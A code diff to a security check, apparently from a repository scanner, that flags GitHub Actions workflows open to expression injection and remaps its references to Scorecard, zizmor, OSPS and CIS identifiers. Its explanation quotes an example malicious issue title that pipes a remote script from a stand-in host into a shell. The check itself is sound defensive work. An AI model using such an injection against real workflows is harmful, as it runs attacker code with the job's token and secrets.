@@ -17,16 +17,14 @@ export const workflowInputSafe = defineCheck({
     'GitHub writes an expression into the script before the shell reads it. A title such as `"; curl evil.sh | sh #` is then a command, run with the token and the secrets of the job. Whoever can open an issue or a pull request can write one.',
   remediation:
     'Hand the value over in `env:` and use the variable in quotes: `"$TITLE"`. In github-script read it from the environment too. Never check out and run the head of a pull request in `pull_request_target` or `workflow_run`.',
-  references: [
-    {
-      catalogue: 'scorecard',
-      id: 'Dangerous-Workflow',
-      url: 'https://github.com/ossf/scorecard/blob/main/docs/checks.md#dangerous-workflow',
-    },
-    { catalogue: 'zizmor', id: 'template-injection', url: 'https://docs.zizmor.sh/audits/#template-injection' },
-    { catalogue: 'zizmor', id: 'dangerous-triggers', url: 'https://docs.zizmor.sh/audits/#dangerous-triggers' },
-    { catalogue: 'osps', id: 'OSPS-BR-01.01', url: 'https://baseline.openssf.org/' },
-  ],
+  mapsTo: {
+    scorecard: ['Dangerous-Workflow'],
+    zizmor: ['template-injection', 'dangerous-triggers'],
+    osps: ['OSPS-BR-01.01', 'OSPS-BR-01.03'],
+    slsa: [],
+    cis: ['1.5.2', '2.3.6'],
+  },
+  references: [],
   reads: ['tree', 'workflows'],
 
   run(repo) {
